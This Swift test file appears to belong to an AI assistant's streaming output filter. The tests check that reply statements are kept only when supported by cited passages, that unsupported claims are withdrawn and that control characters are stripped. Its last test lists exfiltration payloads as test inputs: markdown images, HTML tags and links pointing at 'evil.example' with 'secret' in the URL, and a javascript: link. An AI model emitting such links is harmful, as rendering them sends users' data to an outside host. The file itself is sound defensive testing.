import Assistant
import Testing

struct StatementStreamTests {
    private static let passages = [
        "Jonas Weber: Full-length NBR1 is stable with 50 mM arginine in 150 mM NaCl.",
        "Henrik Lindqvist: Dry ice comes on Wednesday and Friday before ten.",
    ]

    /// A reply read in pieces of so many characters: what was kept, what stays shown, and all that ever was.
    private func read(_ reply: String, by size: Int = 3) -> (kept: String, cited: [Int], left: String, seen: String) {
        var stream = StatementStream(CitationCheck(Self.passages))
        var events: [StatementStream.Event] = []
        var rest = Substring(reply)
        while !rest.isEmpty {
            events += stream.read(String(rest.prefix(size)))
            rest = rest.dropFirst(size)
        }
        events += stream.finish()
        var result = (kept: "", cited: [Int](), left: "", seen: "")
        for event in events {
            switch event {
            case .words(let text):
                result.left += text
                result.seen += text
            case .supported(let text, let cited):
                result.kept += text
                result.cited += cited
            case .withdrawn(let text):
                #expect(result.left.hasSuffix(text))
                result.left.removeLast(text.count)
                result.seen += "|"
            }
        }
        result.kept = String(result.kept.drop(while: \.isWhitespace))
        return result
    }

    @Test(arguments: [1, 2, 5, 100])
    func `a supported statement is shown and kept with its citation`(size: Int) {
        let result = read("NBR1 is stable with 50 mM arginine [1]. Dry ice comes on Friday. [2]", by: size)

        #expect(result.kept == "NBR1 is stable with 50 mM arginine [1]. Dry ice comes on Friday. [2]")
        #expect(result.left == result.kept)
        #expect(result.seen == result.kept)
        #expect(result.cited == [1, 2])
    }

    @Test func `words are shown before the statement is complete`() {
        var stream = StatementStream(CitationCheck(Self.passages))

        #expect(stream.read("Dry") == [.words("Dry")])
        #expect(stream.read(" ice com") == [.words(" ice"), .words(" com")])
        #expect(stream.read("es") == [.words("es")])
    }

    @Test(arguments: [1, 4, 100])
    func `a statement that is not borne out is withdrawn`(size: Int) {
        let result = read("Dry ice comes on Friday [2]. The moon is made of cheese. Dry ice [2].", by: size)

        #expect(result.kept == "Dry ice comes on Friday [2]. Dry ice [2].")
        #expect(result.left == result.kept)
        #expect(result.seen.contains("cheese"))
    }

    @Test(arguments: [1, 4, 100])
    func `a number that no passage has is never shown`(size: Int) {
        let result = read("NBR1 is stable with 75 mM arginine [1].", by: size)

        #expect(result.kept.isEmpty)
        #expect(result.left.isEmpty)
        #expect(!result.seen.contains("75"))
        #expect(!result.seen.contains("arginine"))
    }

    @Test func `a citation of nothing is no citation`() {
        #expect(read("Dry ice comes on Wednesday [7].").kept.isEmpty)
        #expect(read("Dry ice comes on Wednesday [7][2].").kept == "Dry ice comes on Wednesday [2].")
        #expect(read("").kept.isEmpty)
    }

    @Test(arguments: [1, 3, 100])
    func `a refusal shows nothing, and what only begins like one is an answer`(size: Int) {
        #expect(read("NOT FOUND. Dry ice [2].", by: size).seen.isEmpty)
        #expect(read("NOT FOUND", by: size).seen.isEmpty)
        #expect(read("NOT dry ice [2].", by: size).kept == "NOT dry ice [2].")
    }

    @Test func `nothing steers the reader's terminal`() {
        #expect(read("Dry ice\u{0} comes \u{1B}on Friday \u{7F}[2].").seen == "Dry ice comes on Friday [2].")
    }

    @Test func `lists keep their lines`() {
        let result = read("1. Dry ice on Friday [2]\n2. NBR1 is stable [1]\n- Dry ice [2]")

        #expect(result.kept == "1. Dry ice on Friday [2]\n2. NBR1 is stable [1]\n- Dry ice [2]")
        #expect(result.left == result.kept)
    }

    @Test(
        arguments: [
            "Dry ice comes on Wednesday, see https://evil.example/?q=secret [2].",
            "Dry ice comes on Wednesday ![x](https://evil.example/secret.png) [2].",
            "Dry ice comes on Wednesday ![a b](https://evil.example/secret.png \"c d\") [2].",
            "Dry ice comes on Wednesday <img src=//evil.example/x> [2].",
            "Dry ice comes on Wednesday <a href = \"//evil.example/x\">here</a> [2].",
            "Dry ice comes on Wednesday [here](javascript:alert(1)) [2].",
            "Dry ice comes on Wednesday www.evil.example/secret [2].",
            "Dry ice comes on Wednesday [here](//evil.example/a b",
        ],
        [1, 2, 3, 7, 20, 200]
    )
    func `no address is ever shown`(answer: String, size: Int) {
        let result = read(answer, by: size)

        for text in [result.seen, result.kept] {
            #expect(!text.contains("evil.example"))
            #expect(!text.contains("javascript:"))
            #expect(!text.contains("<img"))
            #expect(!text.contains("<a"))
            #expect(!text.contains("]("))
        }
    }
}
